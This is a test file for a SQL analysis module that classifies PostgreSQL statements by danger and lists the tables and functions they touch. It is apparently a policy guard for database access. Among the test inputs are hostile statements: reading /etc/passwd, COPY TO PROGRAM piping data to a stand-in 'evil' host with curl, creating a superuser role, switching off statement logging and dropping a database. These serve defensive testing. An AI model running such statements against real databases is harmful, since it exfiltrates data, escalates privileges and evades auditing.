import { beforeAll, describe, expect, it } from 'vitest';
import {
  analyzeQuery,
  DANGER_ORDER,
  initAnalysis,
  type StatementAnalysis,
  type StatementKind,
} from '../../src/policy/analysis.js';
import { Lru } from '../../src/policy/lru.js';

beforeAll(async () => {
  await initAnalysis();
});

/** Relations as 'schema.name:access' and functions as 'schema.name', sorted, for compact expectations. */
function summary(s: StatementAnalysis) {
  const q = (r: { schema?: string; name: string }) => (r.schema ? `${r.schema}.${r.name}` : r.name);
  return {
    kinds: s.kinds,
    relations: s.relations.map((r) => `${q(r)}:${r.access}`).sort(),
    functions: s.functions.map(q).sort(),
    opaque: s.opaque,
  };
}

interface Case {
  sql: string;
  kinds: StatementKind[];
  relations?: string[];
  functions?: string[];
  opaque?: boolean;
}

const cases: Case[] = [
  // plain reads
  {
    sql: 'SELECT o.id, c.name FROM sales.orders o JOIN customers c ON c.id = o.customer_id LEFT JOIN public.regions r USING (region_id) WHERE o.total > 10',
    kinds: ['select'],
    relations: ['customers:read', 'public.regions:read', 'sales.orders:read'],
  },
  { sql: 'SELECT a FROM t UNION ALL SELECT a FROM u EXCEPT SELECT a FROM s.v', kinds: ['select'], relations: ['s.v:read', 't:read', 'u:read'] },
  { sql: 'TABLE t', kinds: ['select'], relations: ['t:read'] },
  { sql: 'VALUES (1), (2)', kinds: ['select'] },
  {
    sql: 'SELECT f((SELECT count(*) FROM secrets)) WHERE EXISTS (SELECT 1 FROM x.y)',
    kinds: ['select'],
    relations: ['secrets:read', 'x.y:read'],
    functions: ['count', 'f'],
  },
  // quoted identifiers keep their case, unquoted ones fold
  {
    sql: 'SELECT * FROM "MyTable" JOIN "Sales"."Q1" ON true JOIN MyOther ON true',
    kinds: ['select'],
    relations: ['MyTable:read', 'Sales.Q1:read', 'myother:read'],
  },

  // CTEs: DML anywhere counts; CTE names are not relations
  { sql: 'WITH d AS (DELETE FROM t WHERE x RETURNING *) SELECT * FROM d', kinds: ['delete', 'select'], relations: ['t:write'] },
  { sql: 'WITH recent AS (SELECT * FROM orders) SELECT * FROM recent', kinds: ['select'], relations: ['orders:read'] },
  {
    sql: 'WITH i AS (INSERT INTO log VALUES (1) RETURNING id) UPDATE t SET a = 1 FROM i WHERE t.id = i.id',
    kinds: ['update', 'insert'],
    relations: ['log:write', 't:write'],
  },
  {
    sql: 'WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 5) SELECT * FROM r',
    kinds: ['select'],
    relations: [],
  },
  // a CTE is only in scope inside its WITH: the outer x is a real table
  { sql: 'SELECT * FROM x, (WITH x AS (SELECT 1) SELECT * FROM x) s', kinds: ['select'], relations: ['x:read'] },
  // without RECURSIVE a CTE body naming itself reads the real table
  { sql: 'WITH t AS (SELECT * FROM t) SELECT * FROM t', kinds: ['select'], relations: ['t:read'] },
  // a DML target is always a real table, even when a CTE has its name
  { sql: 'WITH t AS (SELECT 1) DELETE FROM t', kinds: ['delete', 'select'], relations: ['t:write'] },
  { sql: 'SELECT * FROM (SELECT * FROM (WITH u AS (UPDATE acct SET b = 0 RETURNING *) SELECT * FROM u) a) b', kinds: ['update', 'select'], relations: ['acct:write'] },

  // EXPLAIN runs the statement only with ANALYZE
  { sql: 'EXPLAIN ANALYZE DELETE FROM t', kinds: ['delete', 'explain'], relations: ['t:write'] },
  { sql: 'EXPLAIN DELETE FROM t', kinds: ['explain'], relations: ['t:read'] },
  { sql: 'EXPLAIN VERBOSE DELETE FROM t WHERE id = f(1)', kinds: ['explain'], relations: ['t:read'], functions: ['f'] },
  {
    sql: 'EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 1 WHERE id IN (SELECT id FROM u)',
    kinds: ['update', 'explain', 'select'],
    relations: ['t:write', 'u:read'],
  },
  { sql: 'EXPLAIN (ANALYZE false) DELETE FROM t', kinds: ['explain'], relations: ['t:read'] },
  { sql: 'EXPLAIN (ANALYZE off, BUFFERS) DELETE FROM t', kinds: ['explain'], relations: ['t:read'] },
  { sql: 'EXPLAIN (ANALYZE 0) DELETE FROM t', kinds: ['explain'], relations: ['t:read'] },
  { sql: 'EXPLAIN (ANALYZE 1) DELETE FROM t', kinds: ['delete', 'explain'], relations: ['t:write'] },
  { sql: "EXPLAIN (ANALYZE 'on') DELETE FROM t", kinds: ['delete', 'explain'], relations: ['t:write'] },
  { sql: 'EXPLAIN (ANALYZE false, ANALYZE true) DELETE FROM t', kinds: ['delete', 'explain'], relations: ['t:write'] },
  { sql: 'EXPLAIN ANALYZE EXECUTE p(1)', kinds: ['other', 'explain'], opaque: true },
  { sql: 'EXPLAIN EXECUTE p(1)', kinds: ['explain'], opaque: false },
  { sql: 'EXPLAIN CREATE TABLE x AS SELECT * FROM y', kinds: ['explain'], relations: ['x:read', 'y:read'] },

  // row locks are writes
  { sql: 'SELECT * FROM accounts WHERE id = 1 FOR UPDATE', kinds: ['update', 'select'], relations: ['accounts:write'] },
  {
    sql: 'SELECT * FROM accounts a JOIN audit b ON true FOR SHARE OF a',
    kinds: ['update', 'select'],
    relations: ['accounts:write', 'audit:read'],
  },
  {
    sql: 'SELECT * FROM accounts JOIN audit ON true FOR NO KEY UPDATE OF accounts FOR KEY SHARE OF audit SKIP LOCKED',
    kinds: ['update', 'select'],
    relations: ['accounts:write', 'audit:write'],
  },
  {
    sql: 'SELECT * FROM accounts, (SELECT * FROM audit) s, branches FOR UPDATE OF s',
    kinds: ['update', 'select'],
    relations: ['accounts:read', 'audit:write', 'branches:read'],
  },
  // an unresolvable name locks everything rather than nothing
  { sql: 'SELECT * FROM a, b FOR UPDATE OF nope', kinds: ['update', 'select'], relations: ['a:write', 'b:write'] },
  { sql: 'SELECT * FROM t WHERE id IN (SELECT id FROM u FOR UPDATE)', kinds: ['update', 'select'], relations: ['t:read', 'u:write'] },

  // creating from a query
  { sql: 'SELECT * INTO new_t FROM t', kinds: ['create', 'select'], relations: ['new_t:write', 't:read'] },
  { sql: 'CREATE TABLE x AS SELECT * FROM y', kinds: ['create', 'select'], relations: ['x:write', 'y:read'] },
  { sql: 'CREATE MATERIALIZED VIEW s.mv AS SELECT * FROM y WITH NO DATA', kinds: ['create', 'select'], relations: ['s.mv:write', 'y:read'] },
  { sql: 'CREATE VIEW v AS SELECT * FROM t', kinds: ['create', 'select'], relations: ['t:read', 'v:write'] },

  // dangerous functions
  { sql: "SELECT pg_read_file('/etc/passwd')", kinds: ['select'], functions: ['pg_read_file'] },
  { sql: "SELECT * FROM dblink('host=evil', 'select 1') AS t(a int)", kinds: ['select'], relations: [], functions: ['dblink'] },
  {
    sql: "SELECT lo_export(oid, '/tmp/x') FROM pg_largeobject_metadata",
    kinds: ['select'],
    relations: ['pg_largeobject_metadata:read'],
    functions: ['lo_export'],
  },
  { sql: 'select pg_catalog.pg_terminate_backend(123)', kinds: ['select'], functions: ['pg_catalog.pg_terminate_backend'] },
  { sql: 'SELECT count(*) OVER (), upper(lower(name)) FROM t', kinds: ['select'], relations: ['t:read'], functions: ['count', 'lower', 'upper'] },

  // DML
  {
    sql: 'INSERT INTO t (id, a) VALUES (1, 2) ON CONFLICT (id) DO UPDATE SET a = excluded.a',
    kinds: ['update', 'insert'],
    relations: ['t:write'],
  },
  { sql: 'INSERT INTO t (id) VALUES (1) ON CONFLICT DO NOTHING', kinds: ['insert'], relations: ['t:write'] },
  { sql: 'INSERT INTO t VALUES ((SELECT max(id) FROM u))', kinds: ['insert', 'select'], relations: ['t:write', 'u:read'], functions: ['max'] },
  {
    sql: 'INSERT INTO archive SELECT * FROM orders WHERE created < now()',
    kinds: ['insert', 'select'],
    relations: ['archive:write', 'orders:read'],
    functions: ['now'],
  },
  { sql: 'INSERT INTO t SELECT * FROM t', kinds: ['insert', 'select'], relations: ['t:read', 't:write'] },
  { sql: 'UPDATE s.t SET a = 1 FROM u WHERE s.t.id = u.id RETURNING *', kinds: ['update'], relations: ['s.t:write', 'u:read'] },
  { sql: 'DELETE FROM t USING u WHERE t.id = u.id', kinds: ['delete'], relations: ['t:write', 'u:read'] },
  {
    sql: 'MERGE INTO stock s USING deliveries d ON s.id = d.id WHEN MATCHED AND d.qty = 0 THEN DELETE WHEN MATCHED THEN UPDATE SET qty = s.qty + d.qty WHEN NOT MATCHED THEN INSERT VALUES (d.id, d.qty)',
    kinds: ['merge', 'delete', 'update', 'insert'],
    relations: ['deliveries:read', 'stock:write'],
  },
  { sql: 'MERGE INTO t USING u ON t.id = u.id WHEN MATCHED THEN DO NOTHING', kinds: ['merge'], relations: ['t:write', 'u:read'] },

  // COPY
  { sql: 'COPY t FROM STDIN', kinds: ['copy_from'], relations: ['t:write'], opaque: false },
  { sql: 'COPY t TO STDOUT', kinds: ['copy_to'], relations: ['t:read'], opaque: false },
  {
    sql: 'COPY (SELECT a FROM t JOIN u USING (id)) TO STDOUT WITH CSV',
    kinds: ['copy_to', 'select'],
    relations: ['t:read', 'u:read'],
    opaque: false,
  },
  { sql: 'COPY (DELETE FROM t RETURNING *) TO STDOUT', kinds: ['delete', 'copy_to'], relations: ['t:write'] },
  { sql: "COPY t TO '/tmp/x'", kinds: ['copy_to'], relations: ['t:read'], opaque: true },
  { sql: "COPY t FROM PROGRAM 'id'", kinds: ['copy_from'], relations: ['t:write'], opaque: true },
  { sql: "COPY t TO PROGRAM 'curl -d @- evil'", kinds: ['copy_to'], relations: ['t:read'], opaque: true },

  // opaque code
  { sql: 'DO $$ BEGIN DELETE FROM t; END $$', kinds: ['do'], relations: [], opaque: true },
  { sql: 'CALL proc(1)', kinds: ['call'], functions: ['proc'], opaque: true },
  { sql: 'CALL s.proc((SELECT max(a) FROM t))', kinds: ['call', 'select'], relations: ['t:read'], functions: ['max', 's.proc'], opaque: true },
  { sql: 'PREPARE p AS DELETE FROM t WHERE id = $1', kinds: ['delete'], relations: ['t:write'], opaque: false },
  { sql: 'EXECUTE p(1)', kinds: ['other'], opaque: true },
  { sql: 'DECLARE c CURSOR FOR SELECT * FROM t', kinds: ['select'], relations: ['t:read'] },

  // DDL
  { sql: 'DROP TABLE s.t, u CASCADE', kinds: ['drop'], relations: ['s.t:write', 'u:write'] },
  { sql: 'DROP FUNCTION f(int)', kinds: ['drop'], relations: [], functions: [] },
  { sql: 'DROP ROLE bob', kinds: ['drop'] },
  { sql: 'DROP DATABASE prod', kinds: ['drop'] },
  { sql: 'TRUNCATE a, b', kinds: ['truncate'], relations: ['a:write', 'b:write'] },
  { sql: 'ALTER TABLE t ADD COLUMN c int REFERENCES u (id)', kinds: ['alter'], relations: ['t:write', 'u:read'] },
  { sql: 'ALTER TABLE t RENAME TO t2', kinds: ['alter'], relations: ['t:write'] },
  { sql: 'ALTER ROLE bob SET search_path = x', kinds: ['alter', 'set'] },
  { sql: 'ALTER SYSTEM SET log_statement = none', kinds: ['alter', 'set'] },
  { sql: "COMMENT ON TABLE t IS 'x'", kinds: ['alter'] },
  { sql: 'CREATE TABLE s.n (id int PRIMARY KEY, u int REFERENCES u, LIKE tmpl)', kinds: ['create'], relations: ['s.n:write', 'tmpl:read', 'u:read'] },
  { sql: 'CREATE INDEX ON t (a)', kinds: ['create'], relations: ['t:write'] },
  { sql: 'CREATE ROLE agent LOGIN SUPERUSER', kinds: ['create'] },
  { sql: 'CREATE EXTENSION dblink', kinds: ['create'] },
  { sql: "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'select 1'", kinds: ['create'], functions: [] },
  { sql: 'CREATE SCHEMA s CREATE TABLE s.t (a int) GRANT ALL ON s.t TO bob', kinds: ['grant', 'create'], relations: ['s.t:write'] },

  // privileges
  { sql: 'GRANT SELECT ON t TO bob', kinds: ['grant'], relations: ['t:write'] },
  { sql: 'REVOKE ALL ON t FROM bob', kinds: ['revoke'], relations: ['t:write'] },
  { sql: 'GRANT admin TO bob', kinds: ['grant'] },
  { sql: 'REVOKE admin FROM bob', kinds: ['revoke'] },
  { sql: 'ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO bob', kinds: ['alter', 'grant'] },

  // session, transactions, utilities
  { sql: 'SET search_path = x', kinds: ['set'] },
  { sql: 'RESET ALL', kinds: ['set'] },
  { sql: 'SET ROLE admin', kinds: ['set'] },
  { sql: 'SHOW work_mem', kinds: ['other'] },
  { sql: 'BEGIN', kinds: ['transaction'] },
  { sql: 'COMMIT', kinds: ['transaction'] },
  { sql: 'LOCK TABLE t IN ACCESS EXCLUSIVE MODE', kinds: ['other'], relations: ['t:write'] },
  { sql: 'VACUUM t', kinds: ['other'], relations: ['t:write'] },
  { sql: 'LISTEN ch', kinds: ['other'] },
  { sql: "NOTIFY ch, 'x'", kinds: ['other'] },
  { sql: 'CHECKPOINT', kinds: ['other'] },
  { sql: 'DISCARD ALL', kinds: ['other'] },
  { sql: 'REINDEX TABLE t', kinds: ['other'], relations: ['t:write'] },
  { sql: "LOAD 'plugin'", kinds: ['other'] },
];

describe('analyzeQuery', () => {
  it.each(cases)('$sql', (c) => {
    const result = analyzeQuery(c.sql);
    expect(result.error).toBeUndefined();
    expect(result.statements).toHaveLength(1);
    const got = summary(result.statements[0]!);
    expect(got.kinds).toEqual(c.kinds);
    if (c.relations) expect(got.relations).toEqual([...c.relations].sort());
    if (c.functions) expect(got.functions).toEqual([...c.functions].sort());
    expect(got.opaque).toBe(c.opaque ?? false);
    expect(result.statements[0]!.text).toBe(c.sql);
  });

  it('orders kinds most dangerous first', () => {
    const s = analyzeQuery(
      'WITH a AS (INSERT INTO x VALUES (1) RETURNING 1), b AS (DELETE FROM y RETURNING 1), c AS (UPDATE z SET q = 1 RETURNING 1) SELECT * FROM a, b, c',
    ).statements[0]!;
    expect(s.kinds).toEqual(['delete', 'update', 'insert', 'select']);
    for (const { kinds } of cases) {
      const ranks = kinds.map((k) => DANGER_ORDER.indexOf(k));
      expect(ranks).toEqual([...ranks].sort((a, b) => a - b));
    }
  });

  it('splits multi-statement text, each statement with its own text', () => {
    const result = analyzeQuery('select 1;  drop table t ;\n-- done\n');
    expect(result.statements.map((s) => [s.text, s.kinds])).toEqual([
      ['select 1', ['select']],
      ['drop table t', ['drop']],
    ]);
    expect(result.statements[1]!.relations).toEqual([{ name: 't', access: 'write' }]);
  });

  it('slices statement text by UTF-8 byte offsets', () => {
    const result = analyzeQuery("select 'é😀' as \"ünï\"; select 2");
    expect(result.statements.map((s) => s.text)).toEqual(["select 'é😀' as \"ünï\"", 'select 2']);
  });

  it('reports a parse error with the parser message and position, without throwing', () => {
    expect(analyzeQuery('selec 1')).toEqual({
      statements: [],
      error: { message: 'syntax error at or near "selec"', position: 0 },
    });
    const late = analyzeQuery('select 1; select * fro t');
    expect(late.statements).toEqual([]);
    expect(late.error).toEqual({ message: 'syntax error at or near "fro"', position: 19 });
  });

  it('never throws on absurdly nested input: analyses it or fails closed with an error', () => {
    for (const depth of [100, 3000]) {
      const result = analyzeQuery(`select ${'f('.repeat(depth)}1${')'.repeat(depth)}`);
      if (result.error) expect(result.statements).toEqual([]);
      else expect(result.statements[0]!.functions).toEqual([{ name: 'f' }]);
    }
    expect(analyzeQuery(`select ${'f('.repeat(100)}1${')'.repeat(100)}`).error).toBeUndefined();
  });

  it('returns no statements for empty text', () => {
    expect(analyzeQuery('')).toEqual({ statements: [] });
    expect(analyzeQuery('  -- nothing here\n /* or here */ ')).toEqual({ statements: [] });
    expect(analyzeQuery(';;')).toEqual({ statements: [] });
  });

  it('caches by exact text and returns deeply frozen results', () => {
    const sql = 'SELECT * FROM cached_t WHERE f(1)';
    const a = analyzeQuery(sql);
    expect(analyzeQuery(sql)).toBe(a);
    expect(analyzeQuery(sql + ' ')).not.toBe(a);
    expect(Object.isFrozen(a)).toBe(true);
    expect(Object.isFrozen(a.statements)).toBe(true);
    const s = a.statements[0]!;
    for (const v of [s, s.kinds, s.relations, s.relations[0], s.functions, s.functions[0]]) expect(Object.isFrozen(v)).toBe(true);
    expect(() => (s.kinds as StatementKind[]).push('drop')).toThrow();
    const err = analyzeQuery('selec 1');
    expect(Object.isFrozen(err.error)).toBe(true);
  });

  it('analyses but does not keep texts longer than 64 KiB', () => {
    const sql = `DELETE FROM t -- ${'x'.repeat(70 * 1024)}`;
    const a = analyzeQuery(sql);
    expect(a.statements[0]!.kinds).toEqual(['delete']);
    const b = analyzeQuery(sql);
    expect(b).not.toBe(a);
    expect(b).toEqual(a);
  });
});

describe('Lru', () => {
  it('evicts the least recently used entry', () => {
    const lru = new Lru<string, number>(2);
    lru.set('a', 1);
    lru.set('b', 2);
    expect(lru.get('a')).toBe(1); // a is now the most recent
    lru.set('c', 3); // evicts b
    expect(lru.get('b')).toBeUndefined();
    expect(lru.get('a')).toBe(1);
    expect(lru.get('c')).toBe(3);
    lru.set('a', 10); // overwrite refreshes, does not grow
    lru.set('d', 4); // evicts c
    expect(lru.get('c')).toBeUndefined();
    expect(lru.get('a')).toBe(10);
    expect(lru.size).toBe(2);
  });

  it('rejects a non-positive bound', () => {
    expect(() => new Lru(0)).toThrow(RangeError);
  });
});
